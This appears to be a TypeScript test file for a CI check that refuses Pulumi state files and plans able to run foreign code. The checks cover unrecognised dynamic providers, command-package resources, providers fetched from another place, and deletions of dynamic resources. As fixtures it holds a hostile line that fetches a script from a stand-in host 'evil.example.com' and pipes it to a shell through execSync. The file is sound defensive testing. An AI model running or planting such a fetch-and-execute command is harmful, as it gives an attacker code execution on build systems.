import assert from "node:assert/strict";
import { foreignCode, runsCodeOfState } from "../../../ci/state/foreign-code";

const evil = "require('child_process').execSync('curl evil.example.com | sh')";
const urn = (type: string): string => `urn:pulumi:dev::onebox::${type}::x`;
const rollOut = "pulumi-nodejs:dynamic/onebox:RollOut";

function state(type: string, more: object = {}): string {
  const root = { urn: urn("pulumi:pulumi:Stack"), type: "pulumi:pulumi:Stack" };
  const provider = {
    urn: urn("pulumi:providers:aws"),
    type: "pulumi:providers:aws",
    inputs: { region: "x", __internal: {} },
  };
  const database = {
    urn: `urn:pulumi:dev::onebox::onebox:components:Database$aws:rds/instance:Instance::x`,
    type: "aws:rds/instance:Instance",
    provider: `${urn("pulumi:providers:aws")}::1`,
  };
  return JSON.stringify({
    version: 3,
    deployment: { resources: [root, provider, database, { urn: urn(type), type, ...more }] },
  });
}

describe("a state", () => {
  it("is let through with what onebox uses", () => {
    for (const type of [rollOut, "awsx:ec2:Vpc", "onebox:components:Network"])
      assert.deepEqual(foreignCode(state(type)), []);
    assert.deepEqual(foreignCode(JSON.stringify({ version: 3, deployment: {} })), []);
  });

  const cases: readonly (readonly [string, string, object, RegExp])[] = [
    [
      "a dynamic type of its own",
      "pulumi-nodejs:dynamic:Resource",
      { inputs: { __provider: evil } },
      /not one of our dynamic types/,
    ],
    [
      "a roll-out that is to be deleted",
      rollOut,
      { delete: true, outputs: { __provider: evil } },
      /would be deleted by the code/,
    ],
    ["a package that runs commands", "command:local:Command", { inputs: { delete: "curl evil" } }, /package command/],
    ["a provider of such a package", "pulumi:providers:command", {}, /package command/],
    [
      "a provider from another place",
      "pulumi:providers:aws",
      { inputs: { pluginDownloadURL: "https://evil.example.com" } },
      /another place/,
    ],
    [
      "a provider that is another one in truth",
      "pulumi:providers:aws",
      { inputs: { parameterization: {} } },
      /another place/,
    ],
    // As the engine writes it today.
    ...[{ name: "evil" }, { pluginDownloadURL: "https://evil.example.com" }, { parameterization: "e30=" }, []].map(
      (__internal): [string, string, object, RegExp] => [
        `a provider that is another one inside: ${JSON.stringify(__internal)}`,
        "pulumi:providers:aws",
        { inputs: { region: "us-east-1", __internal } },
        /another plug-in|another place/,
      ],
    ),
    [
      "a bucket that the server of dynamic resources is to delete",
      "aws:s3/bucket:Bucket",
      { provider: `${urn("pulumi:providers:pulumi-nodejs")}::1`, outputs: { __provider: evil } },
      /served by pulumi:providers:pulumi-nodejs, which/,
    ],
    [
      "the same by a provider whose name reads like another",
      "aws:s3/bucket:Bucket",
      { provider: `${urn("pulumi:providers:pulumi-nodejs")}::pulumi:providers:aws::1` },
      /served by pulumi:providers:pulumi-nodejs, which/,
    ],
    [
      "a roll-out in the name of a bucket",
      rollOut,
      { urn: urn("aws:s3/bucket:Bucket"), outputs: { __provider: evil } },
      /another type in its name/,
    ],
  ];
  for (const [title, type, more, why] of cases)
    it(`is refused with ${title}`, () => {
      const [found = ""] = foreignCode(state(type, more));
      assert.match(found, why);
      assert.ok(found.startsWith("urn" in more ? String(more.urn) : urn(type)));
    });

  it("is refused with any of it in what an update was about to do", () => {
    const resource = { urn: urn("command:local:Command"), type: "command:local:Command" };
    const deployment = { resources: [], pending_operations: [{ type: "creating", resource }] };
    assert.match(foreignCode(JSON.stringify({ version: 3, deployment })).join(), /package command/);
  });

  it("that cannot be read is refused, too", () => {
    assert.throws(() => foreignCode("{}"));
    assert.throws(() => foreignCode(""));
  });
});

describe("a plan", () => {
  const own = "urn:pulumi:dev::onebox::onebox:components:Release$pulumi-nodejs:dynamic/onebox:RollOut::release";
  const plan = (op: string, of = own): string =>
    JSON.stringify({
      steps: [
        { op: "same", urn: urn("aws:s3/bucket:Bucket") },
        { op, urn: of },
      ],
    });

  it("is let through where the engine runs the program's own code", () => {
    for (const op of ["same", "create", "update"]) assert.deepEqual(runsCodeOfState(plan(op)), []);
    assert.deepEqual(runsCodeOfState(plan("delete", urn("aws:s3/bucket:Bucket"))), []);
  });

  for (const op of [
    "delete",
    "replace",
    "create-replacement",
    "delete-replaced",
    "read",
    "refresh",
    "discard",
    "something-new",
  ])
    it(`is refused where it says "${op}" of a dynamic resource`, () => {
      assert.equal(runsCodeOfState(plan(op)).length, 1);
      assert.equal(runsCodeOfState(plan(op, urn(rollOut))).length, 1);
    });
});
